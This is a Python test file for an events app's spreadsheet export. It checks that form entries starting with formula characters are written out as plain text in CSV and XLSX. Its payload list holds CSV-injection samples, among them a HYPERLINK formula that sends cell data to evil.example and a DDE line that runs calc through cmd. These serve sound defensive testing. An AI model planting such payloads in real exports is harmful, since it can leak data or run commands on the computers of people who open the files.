"""What somebody typed into a form is a text in Nadia's spreadsheet, whatever it begins with."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from eventsapp import spreadsheets
from eventsapp.spreadsheets import Kind, Sheet
from tests.workbooks import cells_of

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1;"Awa")',
    "=1+1",
    "+33 6 39 98 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
"""Of OWASP, "CSV Injection", and ASVS 5, 1.2.10."""


def table(*cells: spreadsheets.Cell) -> list[Sheet]:
    return [Sheet("Inscriptions", ["prénom"] * len(cells), [cells])]


def read_csv(octets: bytes) -> list[list[str]]:
    assert octets.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in octets
    return list(csv.reader(io.StringIO(octets.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_formula_stays_a_text_in_both(typed: str) -> None:
    assert read_csv(spreadsheets.written(Kind.CSV, table(typed)))[1] == [f"'{typed}"]
    [(_, [[kind, text, formula]])] = cells_of(spreadsheets.written(Kind.XLSX, table(typed)), first_row=2)
    assert (kind, formula) == ("inlineStr", "")
    assert text.split() == typed.split()


@pytest.mark.parametrize("heading", ["=1", "@x"])
def test_a_heading_too(heading: str) -> None:
    sheet = [Sheet("Inscriptions", [heading], [])]
    assert read_csv(spreadsheets.as_csv(sheet)) == [[f"'{heading}"]]
    [(_, [[kind, _, formula]])] = cells_of(spreadsheets.as_xlsx(sheet))
    assert (kind, formula) == ("inlineStr", "")


@pytest.mark.parametrize("typed", ["Awa = Awa", "l’école", "12", "https://exemple.org", "Awa; « B »", ""])
def test_other_texts_stay_as_they_are(typed: str) -> None:
    assert read_csv(spreadsheets.as_csv(table(typed)))[1] == ([typed] if typed else [""])
    [(_, [[kind, text, _]])] = cells_of(spreadsheets.as_xlsx(table(typed or "x")), first_row=2)
    assert (kind, text) == ("inlineStr", typed or "x")


def test_numbers_and_days_are_numbers_and_days() -> None:
    row = table(-3, 2.5, date(2026, 11, 28), None)
    assert read_csv(spreadsheets.as_csv(row))[1] == ["-3", "2.5", "2026-11-28", ""]
    [(_, found)] = cells_of(spreadsheets.as_xlsx(row), first_row=2)
    assert found == [["", "-3", ""], ["", "2.5", ""], ["", "46354", ""]]  # days since 30 December 1899


def test_a_workbook_has_a_sheet_for_each_table_and_a_csv_an_empty_line() -> None:
    sheets = [Sheet("Par action", ["action"], [["Répit"]]), Sheet("Par lieu", ["lieu"], [["Curial"]])]
    assert [name for name, _ in cells_of(spreadsheets.as_xlsx(sheets))] == ["Par action", "Par lieu"]
    assert read_csv(spreadsheets.as_csv(sheets)) == [["action"], ["Répit"], [], ["lieu"], ["Curial"]]
